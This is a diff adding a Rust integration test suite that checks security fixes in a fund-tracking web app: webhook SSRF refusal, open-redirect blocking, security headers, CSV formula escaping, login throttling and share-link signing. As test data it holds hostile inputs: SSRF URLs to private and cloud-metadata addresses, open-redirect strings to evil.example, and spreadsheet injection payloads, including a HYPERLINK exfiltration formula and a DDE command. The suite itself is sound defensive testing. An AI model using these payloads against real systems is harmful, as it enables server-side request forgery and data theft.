@@ -1,0 +1,573 @@
+//! Issue 12, security hardening: each finding, probed against the real router on its own
+//! PostgreSQL database.
+
+mod common;
+
+use axum::http::StatusCode;
+use common::receivers::{WebhookReceiver, SECRET};
+use common::{delivery, replica_with, spawn_with, TestApp};
+use serde_json::{json, Value};
+
+const PERIOD: &str = "2026-09-30";
+
+// ---- 1. Server-side request forgery through alert webhooks -------------------------------------
+
+/// A fund with a company, a revenue forecast for PERIOD and a rule that sends breaches by webhook.
+async fn fund_with_webhook_rule(app: &TestApp) -> (String, String) {
+    let fund = app.fund(400).await;
+    let company = app.company(&fund, "Acme Robotics").await;
+    app.forecast(&fund, &company, "REVENUE", PERIOD, "1000000", &common::days_ago(200)).await;
+    let (s, v) = app
+        .post(
+            &format!("/api/funds/{fund}/alert-rules"),
+            json!({"metric": "REVENUE", "comparison": "below", "threshold": "10", "unit": "percent", "severity": "critical", "channels": ["webhook"]}),
+        )
+        .await;
+    assert_eq!(s, StatusCode::CREATED, "{v}");
+    (fund, company)
+}
+
+async fn breach(app: &TestApp, fund: &str, company: &str) {
+    let (s, v) = app
+        .post(
+            &format!("/api/funds/{fund}/actuals"),
+            json!({"company_id": company, "metric": "REVENUE", "value": "500000", "effective_date": chrono::Utc::now().to_rfc3339(), "period": PERIOD}),
+        )
+        .await;
+    assert_eq!(s, StatusCode::CREATED, "{v}");
+}
+
+/// The fund's only webhook delivery, once it is no longer pending.
+async fn settled_webhook_delivery(app: &TestApp, fund: &str) -> Value {
+    let settled = |a: &[Value]| a.iter().filter_map(|a| delivery(a, "webhook")).any(|d| d["status"] == "dead" || d["status"] == "delivered");
+    let alerts = app.wait_for_alerts(fund, 15, settled).await;
+    let webhooks: Vec<&Value> = alerts.iter().filter_map(|a| delivery(a, "webhook")).collect();
+    assert_eq!(webhooks.len(), 1, "{alerts:#?}");
+    webhooks[0].clone()
+}
+
+#[tokio::test]
+async fn webhook_urls_to_non_public_addresses_are_refused_when_saved() {
+    let app = spawn_with(&[("ALERT_WORKER", "false"), ("WEBHOOK_ALLOW_PRIVATE", "false")]).await;
+    let fund = app.fund(10).await;
+    let settings = format!("/api/funds/{fund}/notification-settings");
+    for url in [
+        "http://127.0.0.1:8080/hook",
+        "http://127.9.9.9/hook",
+        "http://[::1]/hook",
+        "http://169.254.169.254/latest/meta-data/",
+        "http://10.0.0.7/hook",
+        "http://172.20.1.1/hook",
+        "http://192.168.1.20/hook",
+        "http://100.64.0.1/hook",
+        "http://[fd00::1]/hook",
+        "http://[fe80::1]/hook",
+        "http://[::ffff:127.0.0.1]/hook",
+        "http://[::ffff:169.254.169.254]/hook",
+        "http://0.0.0.0/hook",
+        "http://224.0.0.1/hook",
+        "http://2130706433/hook",
+        "http://0x7f.0.0.1/hook",
+        "http://localhost:8080/hook",
+        "https://user:secret@8.8.8.8/hook",
+    ] {
+        let (s, v) = app.put(&settings, json!({"webhook_url": url, "webhook_secret": SECRET})).await;
+        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{url}: {v}");
+        assert_eq!(v["field"], "webhook_url", "{url}: {v}");
+    }
+    let (_, v) = app.get(&settings).await;
+    assert_eq!(v["webhook_url"], Value::Null, "nothing was saved: {v}");
+    let (s, v) = app.put(&settings, json!({"webhook_url": "https://8.8.8.8/hook", "webhook_secret": SECRET})).await;
+    assert_eq!(s, StatusCode::OK, "a public address is accepted: {v}");
+}
+
+/// A URL saved while private addresses were allowed (or whose DNS later changed) is refused again
+/// when the worker connects: nothing reaches the receiver, and the recorded failure names no
+/// address.
+async fn connect_time_refusal(url_of: impl Fn(&WebhookReceiver) -> String) {
+    let hook = WebhookReceiver::start(&[], 200).await;
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let (fund, company) = fund_with_webhook_rule(&app).await;
+    let url = url_of(&hook);
+    let (s, v) = app.put(&format!("/api/funds/{fund}/notification-settings"), json!({"webhook_url": url, "webhook_secret": SECRET})).await;
+    assert_eq!(s, StatusCode::OK, "saved while WEBHOOK_ALLOW_PRIVATE=true: {v}");
+    let _worker = replica_with(&app, &[("WEBHOOK_ALLOW_PRIVATE", "false"), ("ALERT_MAX_ATTEMPTS", "2"), ("ALERT_RETRY_BASE_MS", "20"), ("ALERT_POLL_INTERVAL_MS", "100")]).await;
+    breach(&app, &fund, &company).await;
+    let d = settled_webhook_delivery(&app, &fund).await;
+    assert_eq!(d["status"], "dead", "{d}");
+    assert_eq!(d["attempts"], 2, "{d}");
+    let error = d["last_error"].as_str().unwrap();
+    assert_eq!(error, "webhook refused: the host is not a public address");
+    assert!(hook.received().is_empty(), "nothing reached the loopback receiver");
+}
+
+#[tokio::test]
+async fn a_loopback_ip_saved_earlier_is_refused_when_the_worker_connects() {
+    connect_time_refusal(|hook| hook.url.clone()).await;
+}
+
+#[tokio::test]
+async fn a_host_name_resolving_to_loopback_is_refused_when_the_worker_connects() {
+    connect_time_refusal(|hook| hook.url.replace("127.0.0.1", "localhost")).await;
+}
+
+/// Answers every POST with `307 Temporary Redirect` to `location` (which keeps the method and body).
+async fn redirector(location: String) -> String {
+    let app = axum::Router::new().route(
+        "/hook",
+        axum::routing::post(move || {
+            let location = location.clone();
+            async move { (StatusCode::TEMPORARY_REDIRECT, [("location", location)]) }
+        }),
+    );
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://{}/hook", listener.local_addr().unwrap());
+    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
+    url
+}
+
+#[tokio::test]
+async fn webhook_redirects_are_not_followed_and_count_as_failed_attempts() {
+    let target = WebhookReceiver::start(&[], 200).await;
+    let bouncer = redirector(target.url.clone()).await;
+    let app = spawn_with(&[("ALERT_MAX_ATTEMPTS", "1"), ("ALERT_POLL_INTERVAL_MS", "100")]).await;
+    let (fund, company) = fund_with_webhook_rule(&app).await;
+    let (s, v) = app.put(&format!("/api/funds/{fund}/notification-settings"), json!({"webhook_url": bouncer, "webhook_secret": SECRET})).await;
+    assert_eq!(s, StatusCode::OK, "{v}");
+    breach(&app, &fund, &company).await;
+    let d = settled_webhook_delivery(&app, &fund).await;
+    assert_eq!(d["status"], "dead", "{d}");
+    assert_eq!(d["attempts"], 1);
+    assert!(d["last_error"].as_str().unwrap().contains("307"), "{d}");
+    assert!(d["last_error"].as_str().unwrap().contains("redirects are not followed"), "{d}");
+    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
+    assert!(target.received().is_empty(), "the redirect target got nothing");
+}
+
+// ---- 2. Dates outside 1900-01-01..=2200-12-31 ----------------------------------------------------
+
+const OUT_OF_RANGE: [&str; 5] = ["%2B262142-12-31", "-262143-01-01", "1899-12-31", "2201-01-01", "%2B262142-12-31T00:00:00Z"];
+
+#[tokio::test]
+async fn rest_date_parameters_outside_the_supported_range_get_400_naming_the_field() {
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let fund = app.fund(30).await;
+    for raw in OUT_OF_RANGE {
+        for (query, field) in [
+            (format!("state?at={raw}"), "at"),
+            (format!("state?known_at={raw}"), "known_at"),
+            (format!("timeline?start={raw}"), "start"),
+            (format!("timeline?end={raw}"), "end"),
+            (format!("diff?from={raw}"), "from"),
+            (format!("diff?from=2024-01-01&to={raw}"), "to"),
+            (format!("variance?at={raw}"), "at"),
+            (format!("variance.csv?known_at={raw}"), "known_at"),
+        ] {
+            let (s, v) = app.get(&format!("/api/funds/{fund}/{query}")).await;
+            assert!(s.is_client_error(), "{query}: {s} {v}");
+            assert_eq!(v["field"], field, "{query}: {v}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn dates_in_json_bodies_outside_the_supported_range_are_refused_by_field() {
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let fund = app.fund(30).await;
+    let company = app.company(&fund, "Acme").await;
+    for raw in ["+262142-12-31", "-262143-01-01", "1899-12-31T00:00:00Z"] {
+        let (s, v) = app.post("/api/funds", json!({"name": "F", "size": "1000", "effective_at": raw})).await;
+        assert!(s.is_client_error(), "{raw}: {v}");
+        assert_eq!(v["field"], "effective_at", "{v}");
+        let (s, v) = app.post(&format!("/api/funds/{fund}/events"), json!({"events": [{"type": "CAPITAL_CALLED", "effective_at": raw, "payload": {"amount": "1"}}]})).await;
+        assert!(s.is_client_error(), "{raw}: {v}");
+        assert_eq!(v["field"], "events[0].effective_at", "{v}");
+        let (s, v) = app
+            .post(&format!("/api/funds/{fund}/actuals"), json!({"company_id": company, "metric": "REVENUE", "value": "1", "effective_date": raw}))
+            .await;
+        assert!(s.is_client_error(), "{raw}: {v}");
+        assert_eq!(v["field"], "effective_date", "{v}");
+    }
+    let (s, v) = app
+        .post(&format!("/api/funds/{fund}/actuals"), json!({"company_id": company, "metric": "REVENUE", "value": "1", "effective_date": "2025-06-01", "period": "+262142-12-31"}))
+        .await;
+    assert!(s.is_client_error(), "{v}");
+    assert_eq!(v["field"], "period", "{v}");
+    for event_type in ["FORECAST_CREATED", "ACTUAL_RECORDED"] {
+        let payload = json!({"company_id": company, "metric": "REVENUE", "period": "+262142-12-31", "value": "1"});
+        let (s, v) = app.post(&format!("/api/funds/{fund}/events"), json!({"events": [{"type": event_type, "payload": payload}]})).await;
+        assert!(s.is_client_error(), "{event_type}: {v}");
+        assert!(v["field"].as_str().unwrap().contains("period"), "{event_type}: {v}");
+    }
+    let today = chrono::Utc::now().date_naive();
+    let csv = format!("company,metric,value,effective_date,period\n{company},REVENUE,1,+262142-12-31,\n{company},REVENUE,1,{today},-262143-01-01\n");
+    let (s, v) = app.send_raw("POST", &format!("/api/funds/{fund}/actuals/import"), "text/csv", csv).await;
+    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
+    let columns: Vec<&str> = v["rows"].as_array().unwrap().iter().map(|r| r["column"].as_str().unwrap()).collect();
+    assert_eq!(columns, ["effective_date", "period"], "{v}");
+}
+
+#[tokio::test]
+async fn pages_and_server_functions_answer_4xx_for_dates_outside_the_range() {
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let fund = app.fund(30).await;
+    for raw in OUT_OF_RANGE {
+        for (page, field) in [
+            (format!("time-machine?at={raw}"), "at"),
+            (format!("time-machine?known_at={raw}"), "known_at"),
+            (format!("time-machine?compare={raw}"), "compare"),
+            (format!("overview?at={raw}"), "at"),
+            (format!("variance?known_at={raw}"), "known_at"),
+        ] {
+            let (s, v) = app.get(&format!("/funds/{fund}/{page}")).await;
+            assert!(s.is_client_error(), "{page}: {s}");
+            assert!(v.as_str().unwrap().contains(field), "{page}: the page names {field}");
+        }
+        let form = format!("fund_id={fund}&tab=overview&at={raw}");
+        let (s, v) = app.send_raw("POST", "/sfn/create_share_link", "application/x-www-form-urlencoded", form).await;
+        assert!(s.is_client_error(), "share link at={raw}: {s} {v}");
+        assert!(v.to_string().contains("at"), "{v}");
+        let form = format!("fund_id={fund}&at=&known_at={raw}");
+        let (s, v) = app.send_raw("POST", "/sfn/get_variance_page", "application/x-www-form-urlencoded", form).await;
+        assert!(s.is_client_error(), "variance page known_at={raw}: {s} {v}");
+    }
+}
+
+// ---- 3. Open redirect after sign-in ---------------------------------------------------------------
+
+/// Sends a request through the router; the status, headers and body text.
+async fn raw(app: &TestApp, req: axum::http::Request<axum::body::Body>) -> (StatusCode, axum::http::HeaderMap, String) {
+    use http_body_util::BodyExt;
+    use tower::ServiceExt;
+    let res = app.router.clone().oneshot(req).await.unwrap();
+    let (parts, body) = res.into_parts();
+    let bytes = body.collect().await.unwrap().to_bytes();
+    (parts.status, parts.headers, String::from_utf8_lossy(&bytes).into_owned())
+}
+
+async fn sign_in(app: &TestApp, email: &str, password: &str, next: &str) -> (StatusCode, String) {
+    let form = form_urlencoded::Serializer::new(String::new()).append_pair("email", email).append_pair("password", password).append_pair("next", next).finish();
+    let req = axum::http::Request::post("/login").header("content-type", "application/x-www-form-urlencoded").body(axum::body::Body::from(form)).unwrap();
+    let (s, h, _) = raw(app, req).await;
+    (s, h.get("location").map(|l| l.to_str().unwrap().to_string()).unwrap_or_default())
+}
+
+#[tokio::test]
+async fn sign_in_only_follows_next_to_a_same_origin_path() {
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    for next in ["/\t/evil.example", "/\n/evil.example", "//evil.example", "/\\evil.example", "https://evil.example/", "/ok\\..\\x", "evil.example"] {
+        let (s, location) = sign_in(&app, "owner@test.local", common::PASSWORD, next).await;
+        assert_eq!(s, StatusCode::SEE_OTHER, "{next:?}");
+        assert_eq!(location, "/", "{next:?} is not followed");
+        let (_, location) = sign_in(&app, "owner@test.local", "wrong password", next).await;
+        assert!(location.starts_with("/login?") && !location.contains("next="), "{next:?} is not carried back to the form: {location}");
+    }
+    let (_, location) = sign_in(&app, "owner@test.local", common::PASSWORD, "/funds/x/overview?at=2024-01-01").await;
+    assert_eq!(location, "/funds/x/overview?at=2024-01-01");
+}
+
+// ---- 4. Security headers ------------------------------------------------------------------------
+
+fn get_req(uri: &str, token: Option<&str>) -> axum::http::Request<axum::body::Body> {
+    let mut r = axum::http::Request::get(uri);
+    if let Some(t) = token {
+        r = r.header("authorization", format!("Bearer {t}"));
+    }
+    r.body(axum::body::Body::empty()).unwrap()
+}
+
+fn header<'a>(h: &'a axum::http::HeaderMap, name: &str) -> &'a str {
+    h.get(name).map(|v| v.to_str().unwrap()).unwrap_or("")
+}
+
+/// The text of each `<script>` without `src` (the test's own, simpler reading of the page).
+fn scripts(html: &str) -> Vec<String> {
+    html.split("<script").skip(1).filter_map(|rest| {
+        let (tag, body) = rest.split_once('>')?;
+        (!tag.contains(" src=")).then(|| body.split("</script>").next().unwrap_or("").to_string())
+    }).filter(|s| !s.is_empty()).collect()
+}
+
+fn assert_common_headers(h: &axum::http::HeaderMap, what: &str) {
+    assert_eq!(header(h, "x-content-type-options"), "nosniff", "{what}");
+    assert_eq!(header(h, "x-frame-options"), "DENY", "{what}");
+    assert!(header(h, "content-security-policy").contains("frame-ancestors 'none'"), "{what}");
+}
+
+#[tokio::test]
+async fn pages_and_api_answers_carry_security_headers_also_from_the_page_cache() {
+    use base64::Engine;
+    use sha2::Digest;
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let fund = app.fund(30).await;
+    let page = format!("/funds/{fund}/overview");
+    for outcome in ["miss", "hit"] {
+        let (s, h, html) = raw(&app, get_req(&page, Some(&app.token))).await;
+        assert_eq!(s, StatusCode::OK);
+        assert_eq!(header(&h, "x-page-cache"), outcome);
+        assert_common_headers(&h, &page);
+        assert_eq!(header(&h, "referrer-policy"), "same-origin");
+        assert_eq!(header(&h, "cache-control"), "private, no-store");
+        assert_eq!(header(&h, "strict-transport-security"), "max-age=31536000; includeSubDomains", "COOKIE_SECURE defaults to true");
+        let csp = header(&h, "content-security-policy");
+        assert!(csp.contains("script-src 'self' 'wasm-unsafe-eval'"), "{csp}");
+        assert!(csp.contains("connect-src 'self'") && csp.contains("object-src 'none'") && csp.contains("base-uri 'none'"), "{csp}");
+        assert!(!csp.contains("unsafe-inline"), "{csp}");
+        let inline = scripts(&html);
+        assert!(!inline.is_empty(), "the hydration loader is an inline script");
+        for script in inline {
+            let hash = base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(script.as_bytes()));
+            assert!(csp.contains(&format!("'sha256-{hash}'")), "{outcome}: the CSP allows the page's inline script by hash: {csp}");
+        }
+    }
+    let (_, h, _) = raw(&app, get_req("/api/funds", Some(&app.token))).await;
+    assert_common_headers(&h, "/api/funds");
+    assert_eq!(header(&h, "content-security-policy"), "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'");
+    assert_eq!(header(&h, "cache-control"), "private, no-store");
+    let (_, h, _) = raw(&app, get_req("/login", None)).await;
+    assert_common_headers(&h, "/login");
+    assert!(header(&h, "content-security-policy").contains("form-action 'self'"));
+
+    let plain = spawn_with(&[("ALERT_WORKER", "false"), ("COOKIE_SECURE", "false")]).await;
+    let (_, h, _) = raw(&plain, get_req("/login", None)).await;
+    assert_eq!(header(&h, "strict-transport-security"), "", "no HSTS over plain HTTP");
+}
+
+#[tokio::test]
+async fn share_pages_send_no_referrer_and_are_not_stored() {
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let fund = app.fund(30).await;
+    let form = format!("fund_id={fund}&tab=overview");
+    let (s, v) = app.send_raw("POST", "/sfn/create_share_link", "application/x-www-form-urlencoded", form).await;
+    assert_eq!(s, StatusCode::OK, "{v}");
+    let path = v["path"].as_str().unwrap().to_string();
+    let (s, h, _) = raw(&app, get_req(&path, None)).await;
+    assert_eq!(s, StatusCode::OK);
+    assert_common_headers(&h, &path);
+    assert_eq!(header(&h, "referrer-policy"), "no-referrer");
+    assert_eq!(header(&h, "cache-control"), "no-store");
+}
+
+// ---- 6. CSV formula injection -------------------------------------------------------------------
+
+#[tokio::test]
+async fn company_names_in_the_variance_export_cannot_run_as_formulas() {
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let fund = app.fund(400).await;
+    let evil = r#"=HYPERLINK("https://x/?"&B2,"x")"#;
+    let mut companies = Vec::new();
+    for name in [evil, "@SUM(1+1)", "-cmd|' /C calc'!A0", "Plain Co"] {
+        let company = app.company(&fund, name).await;
+        app.forecast(&fund, &company, "REVENUE", PERIOD, "1000000", &common::days_ago(200)).await;
+        let (s, v) = app
+            .post(
+                &format!("/api/funds/{fund}/actuals"),
+                json!({"company_id": company, "metric": "REVENUE", "value": "700000", "effective_date": common::days_ago(1), "period": PERIOD}),
+            )
+            .await;
+        assert_eq!(s, StatusCode::CREATED, "{v}");
+        companies.push(company);
+    }
+    let (s, v) = app.get(&format!("/api/funds/{fund}/variance.csv")).await;
+    assert_eq!(s, StatusCode::OK);
+    let text = v.as_str().unwrap();
+    let cells: Vec<String> = text
+        .lines()
+        .skip(1)
+        .flat_map(|line| split_csv_line(line))
+        .collect();
+    assert_eq!(text.lines().count(), 5, "{text}");
+    for cell in &cells {
+        let risky = cell.starts_with(['=', '+', '@', '\t', '\r']) || (cell.starts_with('-') && cell.parse::<f64>().is_err());
+        assert!(!risky, "cell {cell:?} would run as a formula:\n{text}");
+    }
+    assert!(cells.contains(&format!("'{evil}")), "{text}");
+    assert!(cells.contains(&"'@SUM(1+1)".to_string()));
+    assert!(cells.iter().any(|c| c.starts_with('-') && c.parse::<f64>().is_ok_and(|n| n < 0.0)), "negative variances stay numeric: {text}");
+    let (_, v) = app.get(&format!("/api/funds/{fund}/actuals/template.csv")).await;
+    for cell in v.as_str().unwrap().lines().flat_map(|l| split_csv_line(l)) {
+        assert!(!cell.starts_with(['=', '+', '@']), "{cell}");
+    }
+}
+
+/// Splits one CSV line (quotes doubled inside quoted fields; no newlines in these files).
+fn split_csv_line(line: &str) -> Vec<String> {
+    let mut cells = vec![String::new()];
+    let mut quoted = false;
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                chars.next();
+                cells.last_mut().unwrap().push('"');
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => cells.push(String::new()),
+            (c, _) => cells.last_mut().unwrap().push(c),
+        }
+    }
+    cells
+}
+
+// ---- 5. Page cache and the token's role cap -------------------------------------------------------
+
+#[tokio::test]
+async fn a_viewer_capped_token_never_gets_the_admins_cached_page() {
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let fund = app.fund(30).await;
+    let (_, viewer_token) = app.store.create_api_token(app.owner.id, "read only", domain::access::Role::Viewer).await.unwrap();
+    let page = format!("/funds/{fund}/overview");
+    let (s, h, admin_html) = raw(&app, get_req(&page, Some(&app.token))).await;
+    assert_eq!((s, header(&h, "x-page-cache")), (StatusCode::OK, "miss"));
+    assert!(admin_html.contains(r#"data-test="share""#), "the admin token's page offers share links");
+    for _ in 0..2 {
+        let (s, _, viewer_html) = raw(&app, get_req(&page, Some(&viewer_token))).await;
+        assert_eq!(s, StatusCode::OK);
+        assert!(!viewer_html.contains(r#"data-test="share""#), "the viewer-capped token sees a viewer's page");
+    }
+    let (_, h, _) = raw(&app, get_req(&page, Some(&app.token))).await;
+    assert_eq!(header(&h, "x-page-cache"), "hit", "the admin's page is still cached for the admin");
+}
+
+// ---- 7. Login throttle race and the bound on password checks ----------------------------------------
+
+#[tokio::test]
+async fn parallel_wrong_passwords_cannot_exceed_the_account_limit() {
+    let app = std::sync::Arc::new(spawn_with(&[("ALERT_WORKER", "false"), ("PASSWORD_HASH_CONCURRENCY", "64")]).await);
+    let attempts = (0..20).map(|_| {
+        let app = app.clone();
+        tokio::spawn(async move { sign_in(&app, "owner@test.local", "wrong password", "/").await })
+    });
+    let mut wrong = 0;
+    for a in attempts {
+        let (s, location) = a.await.unwrap();
+        assert_eq!(s, StatusCode::SEE_OTHER);
+        if location.contains("Wrong") {
+            wrong += 1;
+        } else {
+            assert!(location.contains("Too+many"), "{location}");
+        }
+    }
+    assert_eq!(wrong, 5, "exactly LOGIN_MAX_FAILURES_PER_ACCOUNT attempts reach the password check");
+    let counted: i64 = sqlx::query_scalar("SELECT count(*) FROM login_failures WHERE email = 'owner@test.local'").fetch_one(app.store.pool()).await.unwrap();
+    assert_eq!(counted, 5);
+    let (_, location) = sign_in(&app, "owner@test.local", common::PASSWORD, "/").await;
+    assert!(location.contains("Too+many"), "the right password is refused while locked: {location}");
+}
+
+#[tokio::test]
+async fn sign_ins_beyond_the_password_check_bound_get_503_with_retry_after() {
+    let app = std::sync::Arc::new(spawn_with(&[("ALERT_WORKER", "false"), ("PASSWORD_HASH_CONCURRENCY", "1")]).await);
+    let attempts: Vec<_> = (0..8)
+        .map(|i| {
+            let app = app.clone();
+            tokio::spawn(async move {
+                let form = format!("email=nobody{i}%40test.local&password=wrong+password");
+                let req = axum::http::Request::post("/login").header("content-type", "application/x-www-form-urlencoded").body(axum::body::Body::from(form)).unwrap();
+                let (s, h, _) = raw(&app, req).await;
+                (s, header(&h, "retry-after").to_string())
+            })
+        })
+        .collect();
+    let mut busy = 0;
+    for a in attempts {
+        let (s, retry_after) = a.await.unwrap();
+        match s {
+            StatusCode::SEE_OTHER => {}
+            StatusCode::SERVICE_UNAVAILABLE => {
+                assert_eq!(retry_after, "1");
+                busy += 1;
+            }
+            other => panic!("unexpected {other}"),
+        }
+    }
+    assert!(busy >= 1, "with one slot, parallel sign-ins are refused rather than queued");
+    let counted: i64 = app.count("login_failures").await;
+    assert_eq!(counted, 8 - busy, "refused attempts are not counted as failures");
+}
+
+// ---- 8. X-Forwarded-For behind trusted proxies --------------------------------------------------
+
+async fn failed_sign_in_address(env: &[(&str, &str)], forwarded_for: &str) -> String {
+    let mut vars = vec![("ALERT_WORKER", "false"), ("TRUST_FORWARDED_FOR", "true")];
+    vars.extend_from_slice(env);
+    let app = spawn_with(&vars).await;
+    let req = axum::http::Request::post("/login")
+        .header("content-type", "application/x-www-form-urlencoded")
+        .header("x-forwarded-for", forwarded_for)
+        .body(axum::body::Body::from("email=owner%40test.local&password=wrong+password"))
+        .unwrap();
+    let (s, _, _) = raw(&app, req).await;
+    assert_eq!(s, StatusCode::SEE_OTHER);
+    sqlx::query_scalar("SELECT address FROM login_failures").fetch_one(app.store.pool()).await.unwrap()
+}
+
+#[tokio::test]
+async fn the_client_address_is_taken_the_trusted_hops_from_the_right_of_x_forwarded_for() {
+    // The client wrote "6.6.6.6" itself; the one proxy appended the address it really saw.
+    assert_eq!(failed_sign_in_address(&[], "6.6.6.6, 203.0.113.7").await, "203.0.113.7");
+    assert_eq!(failed_sign_in_address(&[("TRUSTED_PROXY_HOPS", "2")], "6.6.6.6, 198.51.100.2, 203.0.113.7").await, "198.51.100.2");
+}
+
+// ---- 10. Token caps on routes open to any signed-in user ----------------------------------------
+
+#[tokio::test]
+async fn a_viewer_capped_token_cannot_create_funds() {
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let (_, viewer) = app.store.create_api_token(app.owner.id, "read only", domain::access::Role::Viewer).await.unwrap();
+    let (_, analyst) = app.store.create_api_token(app.owner.id, "writer", domain::access::Role::Analyst).await.unwrap();
+    let body = json!({"name": "Side Fund", "size": "1000000"});
+    let (s, v) = app.call_as(Some(&viewer), "POST", "/api/funds", Some(body.clone())).await;
+    assert_eq!(s, StatusCode::FORBIDDEN, "{v}");
+    assert!(v["error"].as_str().unwrap().contains("capped at viewer"), "{v}");
+    let (s, _) = app.call_as(Some(&viewer), "GET", "/api/funds", None).await;
+    assert_eq!(s, StatusCode::OK, "reading stays allowed");
+    let (s, v) = app.call_as(Some(&analyst), "POST", "/api/funds", Some(body)).await;
+    assert_eq!(s, StatusCode::CREATED, "{v}");
+    assert_eq!(app.count("funds").await, 1);
+}
+
+// ---- 11. Share links: stored expiry, no e-mail for readers, signing-key rotation --------------------
+
+async fn share_link(app: &TestApp, fund: &str) -> String {
+    let form = format!("fund_id={fund}&tab=overview");
+    let (s, v) = app.send_raw("POST", "/sfn/create_share_link", "application/x-www-form-urlencoded", form).await;
+    assert_eq!(s, StatusCode::OK, "{v}");
+    v["path"].as_str().unwrap().to_string()
+}
+
+async fn read_shared(app: &TestApp, path: &str) -> String {
+    let (_, _, html) = raw(app, get_req(path, None)).await;
+    html
+}
+
+#[tokio::test]
+async fn share_links_check_the_stored_expiry_and_do_not_show_the_creators_email() {
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let fund = app.fund(30).await;
+    let path = share_link(&app, &fund).await;
+    let html = read_shared(&app, &path).await;
+    assert!(html.contains(r#"data-test="shared-report""#), "{html}");
+    assert!(!html.contains("owner@test.local"), "anonymous readers do not learn who shared the link");
+    // The link's expiry is shortened in the database; its token still carries the old one.
+    sqlx::query("UPDATE share_links SET expires_at = now() - interval '1 hour'").execute(app.store.pool()).await.unwrap();
+    let html = read_shared(&app, &path).await;
+    assert!(!html.contains(r#"data-test="shared-report""#) && html.contains("expired"), "{html}");
+}
+
+#[tokio::test]
+async fn a_rotated_share_key_keeps_verifying_links_until_they_can_no_longer_be_valid() {
+    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
+    let fund = app.fund(30).await;
+    let old = share_link(&app, &fund).await;
+    app.store.rotate_server_secret(app::accounts::share_token::SECRET_NAME).await.unwrap();
+    assert!(read_shared(&app, &old).await.contains(r#"data-test="shared-report""#), "signed with the retired key, still valid");
+    let new = share_link(&app, &fund).await;
+    assert_ne!(new.rsplit('.').next(), old.rsplit('.').next());
+    assert!(read_shared(&app, &new).await.contains(r#"data-test="shared-report""#));
+    // Retired longer ago than any link can live (365 days): its signatures no longer count.
+    sqlx::query("UPDATE server_secrets SET name = 'share_links.retired.1000' WHERE name LIKE 'share_links.retired.%'").execute(app.store.pool()).await.unwrap();
+    let html = read_shared(&app, &old).await;
+    assert!(html.contains("not valid"), "{html}");
+    assert!(read_shared(&app, &new).await.contains(r#"data-test="shared-report""#));
+}
